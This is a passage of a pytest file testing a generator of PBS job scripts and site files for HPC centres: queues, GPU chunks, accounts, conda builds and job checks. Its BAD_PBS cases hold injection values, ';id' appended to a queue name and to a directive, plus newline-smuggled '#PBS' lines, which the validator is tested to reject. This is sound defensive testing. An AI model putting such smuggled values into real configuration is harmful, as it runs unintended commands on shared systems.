    first_job = page_text(built / "getting-started" / "first-job.html")
    assert f"Edition of {site.name}:" in first_job
    assert site.gpu_request(1) in first_job  # its first job's script, with one GPU
    first_job_html = (built / "getting-started" / "first-job.html").read_text()
    console = html.unescape(re.sub(r"<[^>]+>", "", first_job_html))  # lines kept
    for line in CENTRE_CONSOLE[name]:
        assert line in console, line
    assert not re.search(r"\$ module load python/3\.11$", console, re.M)  # scripts keep theirs
    # The folder links of its generated scripts: its own repository, or none.
    links = re.findall(r'href="([^"]*/tree/main/examples/first-job)"', first_job_html)
    assert set(links) == CENTRE_LINKS[name], links
    install = page_text(built / "getting-started" / "install.html")
    conda_gone = f"{site.name} does not allow this: see the other ways on this page." in install
    assert conda_gone == (site.get("environment.conda") is False)
    assert ("conda shell.bash hook" in install) != conda_gone


@pytest.mark.parametrize("name", [*SITES, "minimal"])
def test_the_conda_route_installs_the_sites_pytorch_build_as_the_venv_route(editions, name):
    """make_conda_env.sh gets the site file's pytorch.build (and index) as make_venv.sh does;
    before, a conda user of a centre with R535-R570 drivers got the CUDA 13 wheel."""
    site, folder, _changed = editions[name]
    if "install/make_conda_env.sh" in omitted(site):
        pytest.skip(f"{name} does not allow conda: its edition has no make_conda_env.sh")
    build = site.get("pytorch.build")

    def assignments(script):
        text = (folder / "install" / script).read_text()
        return re.findall(r"^(TORCH_(?:BUILD|INDEX)=\S+)", text, re.M)

    conda, venv = assignments("make_conda_env.sh"), assignments("make_venv.sh")
    assert conda == venv and len(conda) == 2, (conda, venv)
    default = "TORCH_BUILD=${TORCH_BUILD:-default}"
    assert conda[0] == (default if build == "default" else f"TORCH_BUILD=${{TORCH_BUILD:-{build}}}")


PBS_SCRIPTS = [name for name in JOB_SCRIPTS if name.endswith(".pbs")]


def pbs_directives(text):
    return re.findall(r"^#PBS (.*)$", text, re.M)


def test_a_pbs_centre_whose_queues_set_the_chunks_asks_for_queues_and_chunk_counts(editions):
    """ABCI 3.0: every job names its project (-P), a GPU job of one GPU the queue of one GPU,
    one of more GPUs or chunks the queue of whole nodes, a CPU job the CPU queue; the chunks
    name only their count. PBS reads no comment after a directive: each is on the line above."""
    site, folder, _changed = editions["abci3-pbs"]
    expected = {  # script: (queue, chunk)
        "first-job/check_pytorch.pbs": ("rt_HG", "select=1"),
        "one-gpu/cnn_gpu.pbs": ("rt_HG", "select=1"),
        "checkpointing/train_checkpoint.pbs": ("rt_HG", "select=1"),
        "ddp/ddp_torchrun.pbs": ("rt_HF", "select=2"),
        "arrays/sweep.pbs": ("rt_HC", "select=1"),
        "arrays/collect.pbs": ("rt_HC", "select=1"),
    }
    assert sorted(expected) == PBS_SCRIPTS
    for name, (queue, chunk) in expected.items():
        text = (folder / name).read_text()
        lines = pbs_directives(text)
        assert "-P gaa50000" in lines and f"-q {queue}" in lines, (name, lines)
        assert [line for line in lines if line.startswith("-l select=")] == [f"-l {chunk}"], lines
        assert not [line for line in lines if "#" in line], lines
        block = BLOCK.search(text)[1].splitlines()
        for i, line in enumerate(block):
            if line.startswith("#PBS "):
                assert block[i - 1].startswith("# ") and "site.toml: scheduler." in block[i - 1]
    assert site.gpu_request(1) == "-q rt_HG" and site.gpu_request(8) == "-q rt_HF"


def test_a_pbs_centre_asks_for_gpus_by_its_resource_with_cores_and_memory_per_gpu(tmp_path):
    """Chunks keep their count, cores and memory; the GPUs take the site's resource name, and
    cores and memory per GPU set a GPU job's. No project and no CPU queue: no -P line, no -q
    line for CPU jobs, and no comment left for either."""
    changes = {
        "scheduler.gpus": "gpus={n}",
        "scheduler.cores_per_gpu": 8,
        "scheduler.memory_per_gpu": "64G",
        "scheduler.gpu_directives": ["-l place=excl"],
    }
    generate(load(minimal(tmp_path, "pbs", **changes)), tmp_path)  # fmt: skip
    ddp = (tmp_path / "examples/ddp/ddp_torchrun.pbs").read_text()
    assert "#PBS -l select=2:ncpus=16:gpus=2:mem=128gb\n" in ddp, ddp
    assert ("# site.toml: scheduler.cores_per_gpu, scheduler.gpus, scheduler.memory_per_gpu\n"
            "#PBS -l select=2") in ddp  # fmt: skip
    assert "# site.toml: scheduler.gpu_directives\n#PBS -l place=excl\n" in ddp
    assert "#PBS -q gpu\n" in ddp and "#PBS -P" not in ddp and "project" not in ddp.lower()
    sweep = (tmp_path / "examples/arrays/sweep.pbs").read_text()
    assert "#PBS -l select=1:ncpus=2:mem=4gb\n" in sweep and "place=excl" not in sweep
    assert "#PBS -q" not in sweep and "queue of CPU jobs" not in sweep.split("set -e")[0], sweep


def test_a_pbs_centre_that_charges_an_account_writes_a_in_its_directives(tmp_path):
    """centres.md: NCAR Derecho and ALCF Polaris charge with -A (Account_Name), not -P: no
    account and -A in directives gives every PBS job script -A and no -P."""
    site = minimal(tmp_path, "pbs", **{"scheduler.directives": ["-A P12345678"]})
    generate(load(site), tmp_path)
    scripts = sorted((tmp_path / "examples").rglob("*.pbs"))
    assert len(scripts) >= 6, scripts
    for script in scripts:
        lines = pbs_directives(script.read_text())
        assert "-A P12345678" in lines and not any(line.startswith("-P") for line in lines), lines


def test_the_tests_complex_edition_names_its_project_queue_and_directive(editions):
    _site, folder, _changed = editions["pbs"]
    text = (folder / "first-job/check_pytorch.pbs").read_text()
    lines = pbs_directives(text)
    assert "-l select=1:ncpus=4:ngpus=1" in lines and "-P tests" in lines, lines
    assert "-q workq" in lines and "# site.toml: scheduler.directives\n#PBS -m n\n" in text


def test_a_pbs_block_line_without_a_rule_stops_the_generation():
    """A #PBS line of a block is a directive, not a comment: one no rule knows stops it."""
    site = load(SITES["pbs"])
    text = "#!/bin/bash\n# --- Site-specific: adapt ---\n#PBS -A myaccount\n# " + "-" * 30 + "\n"
    with pytest.raises(GenerateError, match=r"^x\.pbs:3: .* no rule for: #PBS -A myaccount$"):
        generate_text(site, "x.pbs", text)


BAD_PBS = {
    "a second line in a queue": ({"scheduler.gpu_partition": "gpu\n#PBS -W x"},
                                 "scheduler.gpu_partition must be one line"),
    "a second command in a queue": ({"scheduler.cpu_partition": "cpu;id"},
                                    "scheduler.cpu_partition must be a partition name"),
    "a second command in a directive": ({"scheduler.directives": ["-l place=excl;id"]},
                                        "scheduler.directives must be pbs options"),
    "a second line in a directive": ({"scheduler.gpu_directives": ["-m n\n#PBS -W x"]},
                                     "scheduler.gpu_directives must be one line"),
    "a comment after a directive": ({"scheduler.directives": ["-m n # no mail"]},
                                    "scheduler.directives must be pbs options"),
    "a Slurm directive": ({"scheduler.directives": ["--qos=normal"]},
                          "scheduler.directives must be pbs options"),
    "an unknown key": ({"scheduler.queue": "workq"}, "unknown key scheduler.queue"),
    "gpus in a Grid Engine form": ({"scheduler.gpus": "-l ngpus={n}"},
                                   "'-l ngpus={n}' is not a known form for pbs"),
    "gpus in a Slurm form": ({"scheduler.gpus": "--gres=gpu:{n}"},
                             "'--gres=gpu:{n}' is not a known form for pbs"),
    "gpus with a second chunk": ({"scheduler.gpus": "ngpus={n}+1:ncpus=1"},
                                 "is not a known form for pbs"),
    "a Grid Engine key": ({"scheduler.group": "gaa50000"},
                          "scheduler.group is for Grid Engine sites only"),
    "a Slurm key": ({"scheduler.local_disk": True},
                    "scheduler.local_disk is for Slurm and Grid Engine sites only"),
}  # fmt: skip


@pytest.mark.parametrize("case", BAD_PBS)
def test_a_bad_pbs_site_file_stops_with_one_line_naming_the_key(tmp_path, case):
    changes, message = BAD_PBS[case]
    path = minimal(tmp_path, "pbs", **changes)
    proc = run([sys.executable, EDITION / "sitefile.py", path], cwd=ROOT, expect_rc=1)
    assert proc.stderr.count("\n") == 1 and "Traceback" not in proc.stderr, proc.stderr
    assert proc.stderr.startswith(f"site file: error: {path}: ") and message in proc.stderr, (
        proc.stderr
    )


def test_the_recorded_pbs_diff_on_the_centres_page_is_what_generate_makes(editions):
    """The "For HPC centres" page shows what the ABCI 3.0-style site file changes in the first
    job's PBS script."""
    _site, folder, _changed = editions["abci3-pbs"]
    name = "first-job/check_pytorch.pbs"
    proc = run(["diff", "-u", "--label", f"examples/{name}", "--label", f"edition/{name}",
                EXAMPLES / name, folder / name], cwd=ROOT, expect_rc=1)  # fmt: skip
    check_recorded(EDITION / "abci3-check_pytorch.diff", proc.stdout)


@pytest.mark.parametrize(("gpus", "vnode", "count"), [
    ("ngpus={n}", "(pbs-n1:ncpus=8:ngpus=2:mem=32gb)+(pbs-n2:ncpus=8:ngpus=2:mem=32gb)", 4),
    ("ngpus={n}", "(pbs-n1:ncpus=4)", 0),
    ("gpus={n}", "(g1:ncpus=8:ngpus=1:gpus=2)", 2),  # the site's resource, not another's
])  # fmt: skip
def test_site_check_counts_a_pbs_jobs_gpus_by_the_sites_resource(tmp_path, gpus, vnode, count):
    site = load(minimal(tmp_path, "pbs", **{"scheduler.gpus": gpus}))
    assert site_check.pbs_gpus(site, {"exec_vnode": vnode}) == count


def test_site_check_judges_a_pbs_array_by_its_subjobs_and_reads_their_logs(tmp_path):
    """qstat -x -t gives an array job's subjobs: one that failed fails the job; the logs are
    <name>.o<number>.<index>, not those of another job whose number starts the same."""
    site = load(SITES["pbs"])
    name = "arrays/sweep.pbs"
    job = site_check.Job(name, site_check.load_checks("pbs")[name], tmp_path)
    job.job_id, job.start = "12[].pbs-n1", 0.0
    (tmp_path / "sweep.o12.0").write_text("task 0: lr=0.1\n")
    (tmp_path / "sweep.o12.1").write_text("task 1: the loss is nan\n")
    (tmp_path / "sweep.o123").write_text("another job\n")
    records = [
        {"Exit_status": 0, "exec_host": "pbs-n1/0", "exec_vnode": "(pbs-n1:ncpus=2)"},
        {"Exit_status": 1, "exec_host": "pbs-n2/0", "exec_vnode": "(pbs-n2:ncpus=2)"},
    ]
    site_check.judge(site, job, records)  # fmt: skip
    assert (job.outcome, job.message) == ("failed", "Exit_status 0; Exit_status 1")
    assert job.info["nodes"] == "pbs-n1,pbs-n2" and job.info["gpus_given"] == 0
    assert "task 0" in job.log and "the loss is nan" in job.log and "another" not in job.log
    records[1]["Exit_status"] = 0
    site_check.judge(site, job, records)
    assert job.outcome == "passed", job.message


def test_site_check_passes_a_pbs_jobs_options_in_args():
    """PBS passes a job script no arguments: args and the GPU's travel in ARGS (qsub -v),
    a value with a comma quoted, as qsub -v reads it."""
    site = load(CENTRE_SITES["abci3-pbs"])  # a GPU build: the job asks for the GPU
    name = "first-job/check_pytorch.pbs"
    job = site_check.Job(name, site_check.load_checks("pbs")[name], Path("."))
    command = site_check.command_for(site, job, after="7.pbs-n1")
    assert command[:3] == ["qsub", "-W", "depend=afterany:7.pbs-n1"], command
    assert command[-1] == "check_pytorch.pbs" and "-terse" not in command, command
    assert "ARGS=--device cuda --size 256" in command[4].split(","), command
    job.settings["env"] = {"LIST": "a,b"}
    assert "LIST='a,b'" in site_check.command_for(site, job)[2], command


def test_the_pbs_section_on_the_centres_page_is_the_tests_site_files():
    """The "For HPC centres" page shows a PBS centre's [scheduler] section: that of the
    ABCI 3.0-style site file, which the tests build and submit."""
    page = (ROOT / "source" / "about" / "centres.md").read_text()
    blocks = [tomllib.loads(b) for b in re.findall(r"^```toml\n(.*?)^```$", page, re.M | re.S)]
    shown = [block for block in blocks if block.get("scheduler", {}).get("kind") == "pbs"]
    assert shown == [{"scheduler": load(CENTRE_SITES["abci3-pbs"]).data["scheduler"]}], shown
